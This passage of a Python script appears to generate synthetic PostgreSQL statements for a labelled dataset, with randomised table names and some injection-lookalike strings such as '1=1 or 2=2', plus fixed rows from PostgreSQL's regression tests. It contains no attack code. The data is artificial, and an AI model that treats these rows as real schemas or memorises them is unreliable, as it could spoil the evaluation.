            "UPDATE rodeo_stock_draw AS rodeo_stock_draw SET minute = $1, updated_at = $2 WHERE rodeo_stock_draw.sub_id = %d" % n])

    @add("cx23_dolibarr_nextcloud_orm", "complex_orm_generated")
    def _(r):
        n = r.randint(1, 2000)
        return r.choice([
            "SELECT \"orchid_stock\".\"patient_id\", \"orchid_stock\".\"nickname\", \"orchid_stock\".\"weight_g\" FROM \"orchid_stock\" WHERE \"orchid_stock\".\"patient_id\" = %d LIMIT 1" % n,
            "SELECT \"reptile_keepers\".\"finder_id\" AS \"c0\", \"reptile_keepers\".\"name\" AS \"c1\", \"reptile_keepers\".\"email\" AS \"c2\" FROM \"reptile_keepers\" AS \"reptile_keepers\" WHERE \"reptile_keepers\".\"finder_id\" = $1 LIMIT 1",
            "INSERT INTO \"orchid_repots\" (\"patient_id\", \"weighed_on\", \"weight_g\") VALUES (%d, '%s', %d)" % (n, rdate(r), r.randint(250, 1400)),
            "UPDATE \"orchid_stock\" SET \"status\" = $1, \"updated_at\" = $2 WHERE \"patient_id\" = $3",
            "SELECT COUNT(*) AS \"rowcount\" FROM \"orchid_stock\" WHERE \"orchid_stock\".\"status\" = 'in care'",
            "INSERT INTO \"reptile_keepers\" (\"name\", \"email\", \"phone\") VALUES ('%s', '%s', '%s') RETURNING \"finder_id\"" % (
                r.choice(PEOPLE).replace("'", "''"), r.choice(["found.one@example.org", "o'neill@example.com", "g.hollis@example.com"]).replace("'", "''"), "07700 9%05d" % r.randint(0, 99999))])

    @add("cx23_odoo_tryton_orm", "complex_orm_generated")
    def _(r):
        n = r.randint(1, 900)
        return r.choice([
            "select m.batch_id as bi_on_m, m.batch_code as bc_on_m, m.honey_source as hs_on_m from ostrich_eggs m where m.batch_id = $1",
            "select g.batch_id as bi_on_g, g.sg as sg_on_g, g.read_on as ro_on_g from egg_weights g where g.batch_id = %d order by g.read_on" % n,
            "insert into stay_reviews (batch_id, body, scored_by) values ($1, $2, $3)",
            "SELECT \"ENDONKEY\".\"ID\", \"ENDONKEY\".\"NAME\", \"ENDONKEY\".\"PADDOCKID\" FROM \"OSUSR_D7K_DONKEY\" \"ENDONKEY\" WHERE (\"ENDONKEY\".\"PADDOCKID\" = %d) ORDER BY \"ENDONKEY\".\"NAME\" ASC" % (n % 12 + 1),
            "UPDATE \"OSUSR_D7K_DONKEY\" SET \"NAME\" = $1, \"ARRIVED\" = $2 WHERE \"ID\" = $3",
            "SELECT COUNT(1) FROM \"OSUSR_D7K_ADOPTER\" \"ENADOPTER\" WHERE (\"ENADOPTER\".\"MONTHLYPENCE\" >= %d)" % r.choice([500, 1000, 1500])])

    @add("cx23_polars_ibis_orm", "complex_orm_generated")
    def _(r):
        d = rdate(r)
        return r.choice([
            "SELECT \"weighbridge_tickets\".\"grain\" AS \"grain\", SUM(\"weighbridge_tickets\".\"sacks\") AS \"sum:sacks:ok\" FROM \"public\".\"weighbridge_tickets\" \"weighbridge_tickets\" GROUP BY 1",
            "SELECT CAST(\"skip_hires\".\"sold_on\" AS DATE) AS \"tdy:sold_on:ok\", SUM(\"skip_hires\".\"bags\") AS \"sum:bags:ok\" FROM \"public\".\"skip_hires\" \"skip_hires\" WHERE (\"skip_hires\".\"sold_on\" >= (DATE '%s')) GROUP BY 1" % d,
            "select \"_\".\"visit_date\", \"_\".\"visitors\" from \"public\".\"treehouse_visits\" \"_\" where \"_\".\"visit_date\" >= date '%s'" % d,
            "select \"rows\".\"paddock\" as \"paddock\", count(1) as \"Count\" from (select \"_\".\"paddock\" from \"public\".\"ostrich_paddocks\" \"_\") \"rows\" group by \"paddock\"",
            "SELECT \"Custom SQL Query\".\"tide_at\" AS \"tide_at\" FROM (SELECT tide_at, height_m FROM metal_prices) \"Custom SQL Query\" WHERE (\"Custom SQL Query\".\"height_m\" > %d.%d) LIMIT 1000" % (r.randint(3, 5), r.randint(0, 9))])

    @add("cx23_builtin_text_json", "complex_builtin_funcs")
    def _(r):
        a, b = sorted(r.sample(range(1, 900), 2))
        w = rword(r, r.randint(4, 9))
        return r.choice([
            "SELECT initcap(cloth), lower(cloth) FROM watch_straps WHERE roll_id = %d" % a, "SELECT chr(%d) || chr(%d)" % (65 + a % 26, 97 + b % 26),
            "SELECT ascii(substr(order_ref, 1, 1)) FROM yacht_charters WHERE order_id = %d" % b, "SELECT replace(notes, chr(13), '') FROM charter_quotes WHERE \"CommissionId\" = %d" % a,
            "SELECT regexp_replace(name, E'\\\\s+', ' ', 'g') FROM rodeo_entries WHERE player_id = %d" % a, "SELECT E'Dear %s,\\n\\nyour hut key is ready.'" % tricky(r).replace("\\", "\\\\"),
            "SELECT to_char(arrive_on, 'Dy DD Mon') FROM berth_bookings WHERE booking_id = %d" % b, "SELECT jsonb_pretty(meta) FROM vent_figures WHERE pattern_id = %d" % a,
            "SELECT meta->'region', meta->>'toe' FROM vent_figures WHERE pattern_id = %d" % b, "SELECT jsonb_object_keys('{\"og\": 1.1, \"fg\": 1.0}')",
            "SELECT string_agg(species, ', ' ORDER BY species) FROM reptile_feeds WHERE beat_id = %d" % (a % 30), "SELECT upper(left('%s', 1)) || substr('%s', 2)" % (w, w),
            "SELECT md5('%s'), sha224('%s'::bytea)" % (w, w), "SELECT coalesce(nullif(trim(vet_note), ''), 'none') FROM orchid_stock WHERE patient_id = %d" % a,
            "SELECT array_to_string(ARRAY['%s', '%s', '%s'], ' / ')" % (w, tricky(r), w[::-1]), "SELECT format('%%s: %%s grains', grade, grains) FROM topiary_shapes WHERE cleft_id = %d" % b,
            "SELECT concat(label_text, ' (', batch_id, ')') FROM figure_labels WHERE label_id = %d" % a, "SELECT btrim('  %s  '), lpad('%d', 6, '0')" % (w, a),
            "SELECT translate('%s', 'aeiou', 'AEIOU')" % w, "SELECT jsonb_build_object('hut', %d, 'name', '%s')" % (a, tricky(r)),
            "SELECT position('%s' in '%s%s')" % (w[1:3], w, w), "SELECT starts_with('%s', '%s')" % (w, w[:2]), "SELECT to_jsonb(ARRAY[%d, %d])" % (a, b),
            "INSERT INTO audit_trail (who, what, at) VALUES (current_user, '%s', now())" % tricky(r), "SELECT session_user, current_schema(), pg_backend_pid()"])

    @add("cx23_builtin_num_time", "complex_builtin_funcs")
    def _(r):
        a, b = r.randint(1, 200), r.randint(1, 200)
        d = rdate(r)
        return r.choice([
            "SELECT round(avg(score)::numeric, 2) FROM bridge_results WHERE lot_id = %d" % a, "SELECT CAST(weight_lb AS numeric(5,2)), weight_lb::text FROM reptile_feeds WHERE return_id = %d" % b,
            "SELECT ceil(%d / 7.0), floor(%d / 7.0)" % (a, b), "SELECT power(2, %d), mod(%d, 7)" % (a % 16, b), "SELECT date '%s' + interval '%d days'" % (d, a),
            "SELECT extract(dow FROM date '%s'), extract(week FROM date '%s')" % (d, d), "SELECT date_trunc('week', timestamp '%s 08:30')" % d, "SELECT make_interval(days => %d)" % a,
            "SELECT to_char(timestamp '%s 06:12', 'HH24:MI')" % d, "SELECT now() - interval '%d minutes'" % a, "SELECT generate_series(date '%s', date '%s' + %d, '1 day')::date" % (d, d, a % 14),
            "SELECT make_timestamp(%d, %d, %d, 6, 12, 0)" % (r.randint(2000, 2030), a % 12 + 1, b % 28 + 1), "SELECT pg_size_pretty(pg_total_relation_size('%s'))" % r.choice(T23_TABLES),
            "SELECT %d::numeric / nullif(%d, 0)" % (a, b % 5), "SELECT scale(%d.%03d), trim_scale(%d.500)" % (a, b, b), "SELECT gcd(%d, %d), lcm(%d, %d)" % (a, b, a, b % 20 + 1),
            "SELECT date_bin('15 minutes', timestamp '%s 10:%02d', timestamp '2001-01-01')" % (d, b % 60), "SELECT isfinite(date '%s')" % d, "SELECT to_timestamp('%s', 'YYYY-MM-DD')" % d,
            "SELECT age(date '%s')" % d, "SELECT degrees(pi() / %d)" % (a % 8 + 1)])

    @add("cx23_comments", "complex_comments_hints")
    def _(r):
        body = r.choice(["SELECT order_id, sail_type FROM yacht_charters WHERE due_on < current_date + 14", "SELECT count(*) FROM watch_repairs WHERE finished_on IS NULL",
                         "SELECT hut_no, guest_name FROM berth_bookings WHERE arrive_on = current_date", "SELECT fixture_id, pitch FROM rodeo_events WHERE match_day = current_date",
                         "SELECT patient_id, weight_g FROM orchid_repots WHERE weighed_on = current_date - 1", "SELECT batch_id, avg(sg) FROM egg_weights GROUP BY batch_id",
                         "SELECT course_id, count(*) FROM kennel_enrolments GROUP BY course_id", "SELECT beat_id, sum(weight_lb) FROM reptile_feeds WHERE released GROUP BY beat_id",
                         "SELECT grade, count(*) FROM topiary_shapes GROUP BY grade", "SELECT visit_date, visitors FROM treehouse_visits ORDER BY visit_date DESC LIMIT %d" % r.randint(7, 31),
                         "SELECT roast_id, dev_pct FROM timegrapher_readings WHERE roasted_at > now() - interval '%d days'" % r.randint(1, 30),
                         "SELECT member_id, amount FROM vent_dues WHERE paid = false AND due_on < current_date"])
        k = r.randrange(4)
        if k == 0:
            return r.choice(["-- report: charters embarking this fortnight (owner: marina office)\n", "-- nightly: kennel run sheet\n", "-- dashboard: orchids in spike\n",
                             "-- %s %s\n" % (rword(r, 6), rword(r, 4)), "-- Superset-free polars notebook\n", "-- NiFi flow vivarium_ingest\n", "-- Zapier zap 4417: keepers\n",
                             "-- Dolibarr cron export v%d\n" % r.randint(1, 9)]) + body
        if k == 1:
            return body + " /*db_driver='%s',framework='%s',route='%s'*/" % (r.choice(["polars", "ibis", "orator"]), r.choice(["odoo", "frappe", "web2py"]),
                                                                            r.choice(["%2Fcharters%2F%7Bref%7D", "%2Forchids", "%2Fdogs"]))
        if k == 2:
            return "/* %s */ " % r.choice(["FreeSql", "SqlSugar", "linq2db", "Marten", "Komapper"]) + body
        return body + r.choice([" -- keep in sync with the Monday export", " -- don't remove: used by the rota", " /* v23 */", " -- TODO: page this", " -- select only unpaid", " /* it's slow on Fridays */"])

    @add("cx23_cte_window", "complex_cte_window")
    def _(r):
        d = rdate(r)
        n = r.randint(2, 20)
        return r.choice([
            "WITH monthly AS (SELECT date_trunc('month', arrive_on) AS m, count(*) AS stays FROM berth_bookings WHERE arrive_on >= '%s' GROUP BY 1) SELECT m, stays, stays - lag(stays) OVER (ORDER BY m) AS delta FROM monthly ORDER BY m" % d,
            "SELECT player_id, fixture_id, goals, sum(goals) OVER (PARTITION BY player_id ORDER BY fixture_id ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running FROM rodeo_times WHERE fixture_id > %d" % r.randint(1, 8000),
            "SELECT patient_id, weighed_on, weight_g - lag(weight_g) OVER (PARTITION BY patient_id ORDER BY weighed_on) AS gain FROM orchid_repots WHERE weighed_on >= '%s'" % d,
            "SELECT * FROM (SELECT r.*, row_number() OVER (PARTITION BY bean ORDER BY roasted_at DESC) AS rn FROM timegrapher_readings r) s WHERE rn <= %d" % (n % 9 + 1),
            "WITH RECURSIVE days(d) AS (SELECT date '%s' UNION ALL SELECT d + 1 FROM days WHERE d < date '%s' + %d) SELECT d FROM days" % (d, d, n),
            "SELECT beat_id, species, count(*), rank() OVER (PARTITION BY beat_id ORDER BY count(*) DESC) FROM reptile_feeds GROUP BY beat_id, species",
            "WITH late AS (SELECT member_id, sum(amount) AS owed FROM vent_dues WHERE paid = false GROUP BY member_id) SELECT m.stage_name, l.owed FROM late l JOIN vent_members m USING (member_id) WHERE l.owed > %d" % (n * 5),
            "SELECT logged_at, wheel_rpm, avg(wheel_rpm) OVER (ORDER BY logged_at RANGE BETWEEN interval '%d minutes' PRECEDING AND CURRENT ROW) FROM vivarium_temps WHERE logged_at::date = '%s'" % (n, d)])

    @add("cx23_query_builder", "complex_query_builder")
    def _(r):
        return r.choice([
            "SELECT roll_id, cloth, weight_gsm FROM watch_straps WHERE 1=1 AND cloth = '%s' AND weight_gsm >= %d ORDER BY weight_gsm LIMIT 20" % (r.choice(["dacron", "nylon", "laminate", "canvas"]), r.randint(50, 400)),
            "SELECT hut_no FROM marina_berths WHERE 1=1 AND promenade = '%s' AND sleeps >= %d" % (r.choice(RESORTS), r.randint(1, 6)),
            "SELECT patient_id, nickname FROM orchid_stock WHERE status = 'in care' OR status = 'ready for release' OR (status = 'admitted' AND admitted_on > current_date - %d)" % r.randint(1, 30),
            "SELECT model_id, name FROM uke_songs WHERE 1=1 AND name ILIKE '%%%s%%' AND wingspan_mm <= %d ORDER BY name" % (r.choice(["cub", "glider", "spit", "o''neill"]), r.choice([1200, 1800, 2400])),
            "SELECT lot_id, origin FROM orchid_grexes WHERE origin = '%s' OR origin = '%s' ORDER BY kg_left DESC" % tuple(r.sample(["Huila", "Sidama", "Yirgacheffe", "Cerrado", "Nyeri", "Antigua"], 2)),
            "SELECT trick_id, title FROM vent_scripts WHERE 1=1 AND category IN ('%s', '%s') LIMIT %d" % (r.choice(["cards", "coins"]), r.choice(["mentalism", "rope"]), r.choice([10, 25, 50]))])

    @add("cx23_migration_history", "complex_migration_script")
    def _(r):
        v = "20%02d%02d%02d%06d" % (r.randint(22, 26), r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959))
        return r.choice(["INSERT INTO \"schema_migrations\" (version, dirty) VALUES (%s, false)" % v[:14], "TRUNCATE \"schema_migrations\"",
                         "INSERT INTO schema_migration (version) VALUES ('%s')" % v[:14],
                         "INSERT INTO phalcon_migrations (version, start_time, end_time) VALUES ('1.%d.%d', now(), now())" % (r.randint(0, 9), r.randint(0, 20)),
                         "INSERT INTO cycle_migrations (migration, time_executed, created_at) VALUES ('%s_%s', now(), now())" % (v[:8], rword(r, 7)),
                         "INSERT INTO dbix_class_deploymenthandler_versions (version, ddl, upgrade_sql) VALUES ('%d', NULL, NULL)" % r.randint(2, 60),
                         "INSERT INTO sqitch.changes (change_id, change, project, note, committed_at, committer_name, committer_email, planned_at, planner_name, planner_email) "
                         "VALUES ('%s', 'add_%s', 'loft', '', clock_timestamp(), 'Maggie Cutter', 'maggie@example.org', now(), 'Maggie Cutter', 'maggie@example.org')" % ("%040x" % r.getrandbits(160), rword(r, 6))])

    @add("cx23_migration_script", "complex_migration_script")
    def _(r):
        n = r.randint(1, 99)
        d = rdate(r)
        return r.choice([
            "BEGIN;\n-- migration %s: hut colours\nALTER TABLE marina_berths ADD COLUMN repainted_%d date;\nUPDATE marina_berths SET repainted_%d = '%s' WHERE colour IS NOT NULL;\nCOMMIT;" % (d, n, n, d),
            "BEGIN;\n-- %s: split gauge table\nCREATE TABLE harp_gauges_%d (gauge int PRIMARY KEY, note text NOT NULL);\nINSERT INTO harp_gauges_%d VALUES (18, 'bass'), (28, 'mid'), (32, 'treble');\nCOMMIT;" % (d, n, n),
            "BEGIN;\n-- migration %d: catch index\nDROP INDEX IF EXISTS ix_catch_beat_%d;\nCREATE INDEX ix_catch_beat_%d ON reptile_feeds (beat_id, species);\nCOMMIT;" % (n, n, n),
            "BEGIN;\n-- %s: dues reminders\nALTER TABLE vent_dues ADD COLUMN reminded_%d boolean NOT NULL DEFAULT false;\nCOMMENT ON COLUMN vent_dues.reminded_%d IS 'set by the Dolibarr cron';\nCOMMIT;" % (d, n, n)])

    @add("cx23_union_report", "complex_union_report")
    def _(r):
        n = r.randint(1, 150)
        reg = r.choice(["Devon", "Suffolk", "O'Brien Estate", "Pembrokeshire"]).replace("'", "''")
        return r.choice([
            "SELECT 'open' AS state, count(*) FROM service_notes WHERE finished_on IS NULL AND loft_id = %d UNION ALL SELECT 'done', count(*) FROM service_notes WHERE finished_on IS NOT NULL AND loft_id = %d" % (n, n),
            "SELECT id, email FROM treehouse_guests WHERE county = '%s' UNION SELECT id, email FROM berth_waitlist WHERE county = '%s'" % (reg, reg),
            "SELECT 'released' AS outcome, count(*) FROM orchid_stock WHERE status = 'released' AND admitted_on >= '%s' UNION ALL SELECT 'in care', count(*) FROM orchid_stock WHERE status = 'in care'" % rdate(r),
            "SELECT 'home' AS side, sum(home_goals) FROM rodeo_events WHERE division = %d UNION ALL SELECT 'away', sum(away_goals) FROM rodeo_events WHERE division = %d" % (n % 4 + 1, n % 4 + 1)])

    @add("cx23_batch_insert", "complex_batch_insert")
    def _(r):
        k = r.randint(2, 5)
        return r.choice([
            "INSERT INTO calibre_parts (sku, material, gauge) VALUES %s" % ", ".join("('%s', '%s', %d)" % (rword(r, 6, upper=True), r.choice(["gut", "nylon", "bronze wound", "fluorocarbon"]), r.randint(12, 40)) for _ in range(k)),
            "INSERT INTO orchid_repots (patient_id, weighed_on, weight_g) VALUES %s" % ", ".join("(%d, '%s', %d)" % (r.randint(1, 2000), rdate(r), r.randint(200, 1400)) for _ in range(k)),
            "INSERT INTO stay_reviews (batch_id, body, scored_by) VALUES %s" % ", ".join("(%d, '%s', '%s')" % (r.randint(1, 300), r.choice(SENTS)[:70].replace("'", "''"), tricky(r)) for _ in range(k)),
            "INSERT INTO uke_songs (name, wingspan_mm, owner) VALUES %s" % ", ".join("('%s', %d, '%s')" % (tricky(r), r.randint(600, 3000), r.choice(PEOPLE).replace("'", "''")) for _ in range(k))])

    @add("cx23_maintenance", "complex_maintenance_admin")
    def _(r):
        t = r.choice(T23_TABLES)
        return r.choice(["EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM %s WHERE %s" % (t, r.choice(["true", "ctid = '(0,1)'"])), "VACUUM (ANALYZE, SKIP_LOCKED) %s" % t,
                         "ANALYZE %s" % t, "SELECT pg_stat_reset_single_table_counters('%s'::regclass)" % t, "SET statement_timeout = '%ds'" % r.randint(5, 120),
                         "SELECT relname, n_dead_tup FROM pg_stat_user_tables WHERE relname = '%s'" % t, "SHOW work_mem", "SELECT pg_cancel_backend(%d)" % r.randint(100, 99999),
                         "REINDEX INDEX CONCURRENTLY %s_pkey" % t, "NOTIFY %s_refresh, '%d'" % (t, r.randint(1, 999)), "UNLISTEN %s_refresh" % t, "SELECT pg_reload_conf()",
                         "EXPLAIN (COSTS OFF) SELECT count(*) FROM %s" % t])

    @add("cx23_transactions", "complex_transactions")
    def _(r):
        n = r.randint(1, 999)
        return r.choice(["SAVEPOINT sp23_%d" % n, "RELEASE sp23_%d" % n, "ROLLBACK TO sp23_%d" % n, "BEGIN ISOLATION LEVEL %s" % r.choice(["SERIALIZABLE", "REPEATABLE READ", "READ COMMITTED"]),
                         "START TRANSACTION READ WRITE", "SET TRANSACTION READ ONLY, DEFERRABLE", "COMMIT AND CHAIN", "ROLLBACK AND NO CHAIN", "END",
                         "SELECT pg_advisory_xact_lock(hashtext('%s'))" % r.choice(["hut-rota", "dues-export", "roast-queue", "beat-%d" % n]),
                         "SELECT pg_advisory_unlock(%d)" % n, "SET CONSTRAINTS ALL DEFERRED", "ABORT", "PREPARE TRANSACTION 'gid23_%d'" % n, "COMMIT PREPARED 'gid23_%d'" % n])

    @add("cx23_copy", "complex_copy_stdin")
    def _(r):
        d = rdate(r)
        return r.choice([
            "COPY (SELECT hut_no, guest_name, arrive_on FROM berth_bookings WHERE arrive_on >= '%s') TO STDOUT WITH (FORMAT csv, HEADER true)" % d,
            "COPY reptile_feeds (beat_id, species, weight_lb, released, angler) FROM STDIN WITH (FORMAT csv, NULL '')", "COPY vivarium_temps FROM STDIN WITH (FORMAT text)",
            "COPY (SELECT member_id, amount FROM vent_dues WHERE due_on <= '%s') TO STDOUT WITH (FORMAT csv, DELIMITER ';')" % d,
            "COPY metal_prices (tide_at, height_m) FROM STDIN WITH (FORMAT csv, HEADER match)", "COPY (SELECT * FROM timegrapher_readings WHERE roast_id > %d) TO STDOUT WITH (FORMAT binary)" % r.randint(1, 9000)])

    @add("cx23_ddl", "complex_ddl_migration")
    def _(r):
        n = r.randint(1, 999)
        return r.choice([
            "COMMENT ON COLUMN yacht_charters.luff_mm IS 'measured on the bolt rope, rev %d'" % n, "ALTER TABLE marina_berths ALTER COLUMN colour SET DEFAULT 'sea green'",
            "CREATE TYPE grind_%d AS ENUM ('whole bean', 'espresso', 'filter', 'aeropress', 'cafetiere')" % n, "ALTER TABLE topiary_shapes ADD COLUMN IF NOT EXISTS moisture_pct_%d numeric(4,1)" % n,
            "CREATE INDEX IF NOT EXISTS ix_weights_patient_%d ON orchid_repots (patient_id, weighed_on DESC)" % n, "ALTER TABLE ostrich_eggs ADD CONSTRAINT og_range_%d CHECK (og BETWEEN 1.000 AND 1.200)" % n,
            "CREATE TABLE IF NOT EXISTS freq_log_%d (LIKE uke_rehearsal_log INCLUDING ALL)" % n, "DROP TABLE IF EXISTS tmp_hut_import_%d" % n])

    @add("cx23_introspection", "complex_orm_introspection")
    def _(r):
        t = r.choice(T23_TABLES)
        return r.choice([
            "SELECT a.attname, format_type(a.atttypid, a.atttypmod) FROM pg_attribute a WHERE a.attrelid = '%s'::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum" % t,
            "SELECT NULL AS TABLE_CAT, n.nspname AS TABLE_SCHEM, c.relname AS TABLE_NAME FROM pg_catalog.pg_namespace n, pg_catalog.pg_class c WHERE c.relnamespace = n.oid AND c.relname LIKE '%s' ORDER BY TABLE_SCHEM, TABLE_NAME" % t,
            "SELECT oid, typname, typarray FROM pg_type WHERE typname IN ('citext', 'hstore', 'geometry')", "SELECT current_setting('server_version_num')",
            "SELECT tc.constraint_name, kcu.column_name FROM information_schema.table_constraints tc JOIN information_schema.key_column_usage kcu USING (constraint_name) WHERE tc.table_name = '%s'" % t,
            "SET search_path TO public", "SET application_name = '%s'" % r.choice(["streamlit", "pipedream", "talend-job", "jupysql", "tableau"])])

    @add("cx23_parameterized", "complex_parameterized")
    def _(r):
        return r.choice(["UPDATE berth_bookings SET nights = $1 WHERE booking_id = $2 AND guest_name = $3", "INSERT INTO rodeo_scores (fixture_id, player_id, colour) VALUES ($1, $2, $3) RETURNING card_id",
                         "SELECT stockist_id FROM ostrich_buyers WHERE account = $1 AND password = crypt($2, password)", "DELETE FROM stay_holds WHERE permit_token = $1 AND beat_id = $2",
                         "UPDATE vent_dues SET paid = true, paid_on = $1 WHERE member_id = $2 AND due_on = $3"])

    @add("cx23_plpgsql", "complex_plpgsql_body")
    def _(r):
        n = r.randint(1, 999)
        return r.choice([
            "CREATE OR REPLACE FUNCTION touch_hut_%d() RETURNS trigger AS $$\nBEGIN\n  NEW.updated_at := now(); -- keep the rota fresh\n  RETURN NEW;\nEND;\n$$ LANGUAGE plpgsql" % n,
            "CREATE OR REPLACE FUNCTION abv_%d(og numeric, fg numeric) RETURNS numeric LANGUAGE sql IMMUTABLE AS $f$ SELECT round((og - fg) * 131.25, 1) $f$" % n,
            "DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'card_colour_%d') THEN CREATE TYPE card_colour_%d AS ENUM ('green', 'yellow', 'red'); END IF; END $$" % (n, n),
            "CREATE OR REPLACE FUNCTION hog_gain_%d(p int) RETURNS int LANGUAGE plpgsql AS $body$\nDECLARE g int;\nBEGIN\n  SELECT max(weight_g) - min(weight_g) INTO g FROM orchid_repots WHERE patient_id = p;\n  RETURN coalesce(g, 0);\nEND\n$body$" % n])

    @add("cx23_search", "complex_search_complex")
    def _(r):
        return "SELECT trick_id, ts_rank(search_vector, query) AS rank FROM vent_scripts, websearch_to_tsquery('english', '%s') query WHERE search_vector @@ query ORDER BY rank DESC LIMIT %d" % (r.choice(
            ["linking rings -chinese", "\"card force\" classic", "rope or silk", "select a card", "drop the coin", "1=1 or 2=2 trick", "o''reilly rising card", "union of two ropes"]), r.choice([10, 20]))
    return G


# ---------------------------------------------------------------- regression-test statements
# Statements as PostgreSQL's regression suite writes them (src/test/regress/sql/<file>.sql), each with the
# comment lines that precede it in the file where it has them, as dev.jsonl's pg_regress rows come.
REGRESS_FIXED = [
    ("numeric", "-- ******************************\n-- * Check behavior with Inf and NaN inputs.  It's easiest to handle these\n-- * separately from the num_data framework used above, because some input\n-- * combinations will throw errors.\n-- ******************************\n\nWITH v(x) AS\n  (VALUES('0'::numeric),('1'),('-1'),('4.2'),('inf'),('-inf'),('nan'))\nSELECT x1, x2,\n  x1 + x2 AS sum,\n  x1 - x2 AS diff,\n  x1 * x2 AS prod\nFROM v AS v1(x1), v AS v2(x2)"),
    ("numeric", "SELECT width_bucket(5.0, 3.0, 4.0, 0)"),
    ("numeric", "SELECT to_char('100'::numeric, 'FM999.9')"),
    ("numeric", "SELECT to_number('-34,338,492', '99G999G999')"),
    ("numeric", "select div(12345678901234567890, 123)"),
    ("numeric", "-- cases that used to generate inaccurate results\nselect exp(32.999);\nselect exp(-32.999)"),
    ("numeric", "SELECT factorial(4)"),
    ("numeric", "select 1.000000000123 ^ (-2.1e9)"),
    ("interval", "SELECT INTERVAL '01:00' AS \"One hour\""),
    ("interval", "SELECT INTERVAL '+02:00' AS \"Two hours\""),
    ("interval", "SELECT INTERVAL '-1 days +02:03' AS \"22 hours ago...\""),
    ("interval", "SELECT INTERVAL '1.5 weeks' AS \"Ten days twelve hours\""),
    ("interval", "SELECT INTERVAL '10 years -11 month -12 days +13:14' AS \"9 years...\""),
    ("interval", "CREATE TABLE INTERVAL_TBL (f1 interval)"),
    ("interval", "SELECT * FROM INTERVAL_TBL\n   WHERE INTERVAL_TBL.f1 <> interval '@ 10 days'"),
    ("interval", "select justify_hours(interval '6 months 3 days 52 hours 3 minutes 2 seconds') as \"6 mons 5 days 4 hours 3 mins 2 seconds\""),
    ("interval", "-- test fractional second input, and detection of duplicate units\nSET DATESTYLE = 'ISO'"),
    ("interval", "select '30 days'::interval = '1 month'::interval as t"),
    ("jsonb", "SELECT '{\"a\": {\"b\":{\"c\": \"foo\"}}}'::jsonb #> '{a,b}'"),
    ("jsonb", "SELECT jsonb_strip_nulls('[1,{\"a\":1,\"b\":null,\"c\":2},3]')"),
    ("jsonb", "select jsonb_insert('{\"a\": [0,1,2]}', '{a, 1}', '\"new_value\"')"),
    ("jsonb", "select '[\"a\",\"b\"]'::jsonb - 1"),
    ("jsonb", "SELECT '{\"ff\":{\"a\":12,\"b\":16},\"qq\":123,\"x\":[1,2],\"Y\":null}'::jsonb ? 'ff'"),
    ("jsonb", "-- jsonb extraction functions\nSELECT jsonb_typeof('[1,2]')"),
    ("subselect", "--\n-- SUBSELECT\n--\n\nSELECT 1 AS one WHERE 1 IN (SELECT 1)"),
    ("subselect", "SELECT 1 AS zero WHERE 1 NOT IN (SELECT 1)"),
    ("subselect", "-- Uncorrelated subselects\n\nSELECT f1 AS \"Constant Select\" FROM SUBSELECT_TBL\n  WHERE f1 IN (SELECT 1)"),
    ("subselect", "SELECT f1, f2\n  FROM SUBSELECT_TBL\n  WHERE (f1, f2) NOT IN (SELECT f2, CAST(f3 AS int4) FROM SUBSELECT_TBL\n                         WHERE f3 IS NOT NULL)"),
    ("subselect", "select (select array_agg(x) from unnest(array[1,2,3]) x)"),
    ("case", "--\n-- CASE\n-- Test the case statement\n--\n\nCREATE TABLE CASE_TBL (\n  i integer,\n  f double precision\n)"),
    ("case", "SELECT '3' AS \"One\",\n  CASE\n    WHEN 1 < 2 THEN 3\n  END AS \"Simple WHEN\""),
    ("case", "SELECT '<NULL>' AS \"One\",\n  CASE\n    WHEN 1 > 2 THEN 3\n  END AS \"Simple default\""),
    ("case", "-- Constant-expression folding shouldn't evaluate unreachable subexpressions\nSELECT CASE WHEN 1=0 THEN 1/0 WHEN 1=1 THEN 1 ELSE 2/0 END"),
    ("case", "SELECT NULLIF(a.i,b.i) AS \"NULLIF(a.i,b.i)\",\n  NULLIF(b.i, 4) AS \"NULLIF(b.i,4)\"\n  FROM CASE_TBL a, CASE2_TBL b"),
    ("case", "--\n-- Examples of updates involving tables\n--\n\nUPDATE CASE_TBL\n  SET i = CASE WHEN i >= 3 THEN (- i)\n                ELSE (2 * i) END"),
    ("horology", "SELECT timestamp with time zone '20011227 040506+08'"),
    ("horology", "SELECT date 'J2452271'"),
    ("horology", "SELECT time with time zone '040506.789-08'"),
    ("horology", "SELECT to_timestamp('97/2/16 8:14:30', 'FMYYYY/FMMM/FMDD FMHH:FMMI:FMSS')"),
    ("horology", "SELECT to_date('3 4 21 01', 'W MM CC YY')"),
    ("horology", "-- Check that timestamp subtraction works\nSELECT (timestamp without time zone 'today' = (timestamp without time zone 'yesterday' + interval '1 day')) as \"True\""),
    ("limit", "SELECT ''::text AS two, unique1, unique2, stringu1\n\t\tFROM onek WHERE unique1 > 50\n\t\tORDER BY unique1 LIMIT 2"),
    ("limit", "-- Test null limit and offset.  The planner would discard a simple null\n-- constant, so to ensure executor is exercised, do this:\nselect * from int8_tbl limit (case when random() < 0.5 then null::bigint end)"),
    ("limit", "--\n-- Test FETCH FIRST clause\n--\nSELECT thousand\n\t\tFROM onek WHERE thousand < 5\n\t\tORDER BY thousand FETCH FIRST 2 ROW WITH TIES"),
    ("union", "--\n-- UNION (also INTERSECT, EXCEPT)\n--\n\n-- Simple UNION constructs\n\nSELECT 1 AS two UNION SELECT 2 ORDER BY 1"),
    ("union", "SELECT 1 AS one UNION SELECT 1 ORDER BY 1"),
    ("union", "SELECT 1.1 AS two UNION SELECT 2.2 ORDER BY 1"),
    ("union", "-- Try testing from tables...\n\nSELECT f1 AS five FROM FLOAT8_TBL\nUNION\nSELECT f1 FROM FLOAT8_TBL\nORDER BY 1"),
    ("union", "SELECT q2 FROM int8_tbl INTERSECT SELECT q1 FROM int8_tbl ORDER BY 1"),
    ("union", "SELECT q2 FROM int8_tbl EXCEPT ALL SELECT q1 FROM int8_tbl ORDER BY 1"),
    ("boolean", "--\n-- BOOLEAN\n--\n\n--\n-- sanity check - if this fails go insane!\n--\nSELECT 1 AS one"),
    ("boolean", "-- ******************testing built-in type bool********************\n\n-- check bool input syntax\n\nSELECT true AS true"),
    ("boolean", "SELECT bool '   f           ' AS false"),
    ("boolean", "SELECT bool 't' or bool 'f' AS true"),
    ("boolean", "SELECT bool 't' and bool 'f' AS false"),
